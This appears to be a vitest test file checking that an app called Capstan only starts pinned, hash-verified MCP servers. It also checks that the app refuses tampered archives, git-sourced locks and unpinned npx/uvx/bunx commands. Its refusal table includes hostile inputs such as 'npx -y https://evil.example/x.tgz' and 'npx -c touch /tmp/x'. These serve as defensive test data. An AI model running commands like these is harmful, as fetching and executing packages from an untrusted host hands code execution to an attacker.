import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { startNpmRegistry } from "../../../rig/packages/npm-registry.ts";
import { startPythonIndex } from "../../../rig/packages/python-index.ts";
import type { SettingsInput } from "../../../src/app/settings.ts";
import { openHarness } from "../../harness.ts";
import { longTest } from "../../runs.ts";
import { openMcpApi } from "./open-mcp-api.ts";
import { npmServer, type Pinned, publishServer, storeWith, uvxServer } from "./pinned-servers.ts";

const SLOWLY = { timeout: 20_000 };

/** A Capstan with a server that was added before. */
async function openWith(server: Pinned, registries: SettingsInput["registries"]) {
  const folder = mkdtempSync(join(tmpdir(), "capstan-content-"));
  const store = await storeWith({ kept: server });
  const harness = await openHarness({
    contentFolder: folder,
    store,
    profile: "auto",
    settings: { registries },
  });
  onTestFinished(async () => {
    await harness.close();
    rmSync(folder, { recursive: true, force: true });
  });
  return { ...harness, server: () => harness.engine.mcp.list().find(({ id }) => id === "kept") };
}

test("A69: an npx server that was pinned is fetched as it was, without its scripts", async () => {
  const registry = await startNpmRegistry();
  const trace = join(mkdtempSync(join(tmpdir(), "capstan-trace-")), "script-ran");
  const pinned = npmServer(registry, { trace });
  publishServer(registry, "1.1.0");
  const { server, invoke } = await openWith(pinned, { npm: registry.url });
  await expect.poll(() => server()?.tools, SLOWLY).toBeGreaterThan(5);
  expect(server()?.package?.version).toBe("1.0.0");
  expect((await invoke("mcp:kept:plain", {})).state).toBe("completed");
  expect(existsSync(trace)).toBe(false);
}, 60_000);

test("A69: an archive that is not what was pinned is not installed", async () => {
  const registry = await startNpmRegistry();
  const pinned = npmServer(registry);
  registry.tamper("fixture-server", "1.0.0");
  const { server } = await openWith(pinned, { npm: registry.url });
  await expect.poll(() => server()?.error, SLOWLY).toMatch(/does not have the hash of the lock/);
}, 60_000);

test("F10: an npx server whose lock names a repository is refused in words", async () => {
  const registry = await startNpmRegistry();
  const resolved = "git+https://example.com/server.git#0123";
  const { server } = await openWith(npmServer(registry, { entry: { resolved } }), {
    npm: registry.url,
  });
  await expect.poll(() => server()?.error, SLOWLY).toMatch(/comes from git\+https/);
}, 60_000);

longTest(
  "A69: a uvx server that was pinned is fetched by its hashes, and runs in its box",
  async () => {
    const index = await startPythonIndex();
    const { server, invoke } = await openWith(uvxServer(index), { python: index.simple });
    await expect.poll(() => server()?.state, SLOWLY).toBe("ready");
    const outcome = await invoke("mcp:kept:hello", {});
    expect(JSON.stringify(outcome.outputs)).toContain("hello from fixture-words 2.0.0");
  },
  60_000,
);

test.each([
  ["npx", ["-y", "https://evil.example/x.tgz"], "nothing pins the packages"],
  ["npx", ["-c", "touch /tmp/x"], "is not known"],
  ["npx", [], "name of a package"],
  ["npx", ["-y", "some-server@1.0.0"], "nothing pins the packages"],
  ["uvx", ["--with", "x", "some-server"], "uvx is read here as"],
  ["uvx", ["some-server==1.0.0"], "nothing pins the packages"],
  ["bunx", ["some-server"], "nothing here can pin that yet"],
])("A69, F10: %s %j without a lock is refused with the reason", async (command, args, reason) => {
  const contentFolder = mkdtempSync(join(tmpdir(), "capstan-content-"));
  onTestFinished(() => rmSync(contentFolder, { recursive: true, force: true }));
  const api = await openMcpApi({ contentFolder });
  const { status, body } = await api.post<{ code: string; detail: string }>(
    "/v1/mcp-servers",
    { id: "x", command, args },
    { as: "admin" },
  );
  expect(status).toBe(422);
  expect(body.detail).toContain(reason);
});
